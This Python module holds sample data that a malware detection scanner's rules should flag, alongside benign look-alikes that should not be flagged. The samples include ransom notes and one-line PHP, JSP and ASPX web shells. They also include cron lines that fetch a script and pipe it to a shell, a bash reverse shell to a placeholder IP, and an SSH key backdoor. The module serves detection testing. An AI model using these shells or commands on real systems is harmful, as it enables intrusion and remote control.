"""Harmless samples of what the shipped rules are for, put together here so that no scanner is alarmed by the repository."""

from __future__ import annotations

import hashlib

KEY = "AAAA" + "B3NzaC1yc2EAAAADAQABAAABgQC" + "0" * 60


def noise(size: int) -> bytes:
    """Bytes that look encrypted, the same each time."""
    return b"".join(hashlib.sha256(f"noise {number}".encode()).digest() for number in range(size // 32 + 1))[:size]


def _(*pieces: str) -> bytes:
    return "".join(pieces).encode()


EICAR = _("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STAND", "ARD-ANTIVIRUS-TE", "ST-FILE!$H+H*")

NOTE = _("All of your important fi", "les have been encryp", "ted!\nDo not try to ren", "ame them.\nTo get the decry", "ptor, install Tor Brow",
         "ser and visit abcdefghij234567abcdefghij234567abcdefghij234567abcdefgh.on", "ion\n")

#: Rule, name of the file, content.
SAMPLES: tuple[tuple[str, str, bytes], ...] = (
    ("eicar_test_file", "eicar.com", EICAR),
    ("eicar_test_file", "mail.mbox", b"From: somebody\n\n" + EICAR + b"\n"),
    ("ransom_note", "RESTORE-MY-FILES.txt", NOTE),
    ("ransom_note", "wide.txt", "\ufeff".encode("utf-16-le") + NOTE.decode().encode("utf-16-le")),
    ("ransom_note", "note.html", _("<p>We have stol", "en your confidential data and encryp", "ted your servers.</p><p>Write to help@oni", "onmail.org, pay in Bit",
                                   "coin, or we will pub", "lish your data</p>")),
    ("ransom_note_in_database", "dump.sql", _("COPY public.please_rea", "d_me_vvv (id, warning) FROM stdin;\n1\tTo recover yo", "ur lost database and avoid leaking it: se",
                                              "nd 0.08 BTC to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq. Your data", "base is downloaded and backed up on our servers.\n\\.\n")),
    ("encrypted_by_name", "bill-17.pdf.lock" "bit", noise(100)),
    ("encrypted_by_name", "roll.xlsx.id-1A2B3C4D.[help@mail.invalid].bip", noise(100)),
    ("encrypted_by_name", "roll.xlsx.id[1A2B3C4D-3284].[help@mail.invalid].eight", noise(100)),
    ("encrypted_by_name_and_content", "scan.tif.encrypted", noise(4096)),
    ("encrypted_by_mark", "scan.tif", _("WANA", "CRY!") + noise(4096)),
    ("encrypted_by_mark", "scan2.tif", noise(4096) + _("HER", "MES") + noise(260)),
    ("webshell_php_runs_input", "up.php", _("<?php @ev", "al($_PO", "ST['cmd']);")),
    ("webshell_php_runs_input", "image.php.jpg", b"\xff\xd8\xff\xe0 JFIF " + _("<?= sys", "tem($_G", "ET[0]);")),
    ("webshell_php_runs_input", "call.php", _("<?php $_GE", "T['f']($_PO", "ST['a']);")),
    ("webshell_php_runs_input", "dump.sql", _("INSERT INTO posts VALUES (7,'<?php ass", "ert($_REQU", "EST[\"x\"]); ?>');")),
    ("webshell_php_hides_code", "wp-cache.php", _("<?php ev", "al(gzin", "flate(base64_de", "code('7b0HYBxJliUmL23Ke39K9Urg'", ")));")),
    ("webshell_php_known", "x.php", _("<?php\nfunction wso", "Login() { die(); }\n")),
    ("webshell_jsp", "cmd.jsp", _("<%@ page import=\"java.io.*\" %>\n<% Process p = new Proc", "essBuilder(\"sh\", \"-c\", request.getPar", "ameter(\"c\")).start(); %>")),
    ("webshell_jsp_known", "a.war.txt", _("Runtime.getRun", "time().ex", "ec(request.getPar", "ameter(\"c\"))")),
    ("webshell_aspx", "c.aspx", _("<%@ Page Language=\"Jscript\"%><%ev", "al(Requ", "est.Item[\"z\"],\"unsafe\");%>")),
    ("webshell_aspx", "d.aspx", _("<%@ Page Language=\"C#\" %><% var s = new ProcessSta", "rtInfo(\"cmd.exe\", \"/c \" + Requ", "est.QueryString[\"c\"]); %>")),
    ("cron_fetches_and_runs", "root", _("*/5 * * * * root cu", "rl -fsSL http://203.0.113.9/x.sh | b", "ash > /dev/null 2>&1\n")),
    ("cron_fetches_and_runs", "www-data", _("@reboot wg", "et -qO- http://203.0.113.9/x | s", "h\n")),
    ("script_installs_itself", "i.sh", _("#!/bin/sh\npki", "ll -f kinsi", "ng\n(crontab -l; echo '* * * * * /tmp/.x') | cron", "tab -\n")),
    ("script_adds_ssh_key", "k.sh", _("echo \"ssh-r", "sa ", KEY, " a@b\" >", "> /root/.ssh/authorized_k", "eys\n")),
    ("shell_that_calls_out", "r.sh", _("ba", "sh -i >", "& /dev/t", "cp/203.0.113.9/4444 0>&1\n")),
    ("miner_configuration", "config.json", _('{"pools": [{"url": "strat', 'um+tcp://pool.example.invalid:3333", "coin": "x"}], "agent": "xm', 'rig"}')),
)

#: What looks a little like it and is nothing, by name and content.
ORDINARY: tuple[tuple[str, bytes], ...] = (
    ("advice.txt", b"Ransomware encrypts files and demands payment in Bitcoin. Keep offline backups. Never pay; report to CERT-In at once.\n"),
    ("install.md", b"Install with `curl --proto '=https' -sSf https://sh.rustup.rs | sh`, or wget -qO- https://get.example.org | bash.\n"),
    ("crontab", b"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n*/5 * * * * root curl -fsS https://hc.example.org/ping > /dev/null\n"),
    ("form.php", b"<?php $name = htmlspecialchars($_POST['name']); system('/usr/bin/uptime'); echo base64_decode($row['picture']);\n"),
    ("page.jsp", b"<%@ page import=\"java.util.*\" %><% String q = request.getParameter(\"q\"); out.print(q); %>\n"),
    ("page.aspx", b"<%@ Page Language=\"C#\" %><% var q = Request.QueryString[\"q\"]; Response.Write(q); %>\n"),
    ("archive.locked", b"a text that somebody called so, again and again\n" * 100),
    ("signed.gpg.lock", b"\x85\x02\x0c\x03" + noise(4096)),
    ("photo.jpg", b"\xff\xd8\xff\xe0" + noise(20_000)),
    ("backup.tar.gz", b"\x1f\x8b\x08\x00" + noise(20_000)),
    ("authorized_keys", b"ssh-rsa " + KEY.encode() + b" asha@office\n"),
    ("play.sh", b"#!/bin/sh\necho 'ssh-rsa' and authorized_keys are explained in sshd(8)\n"),
)
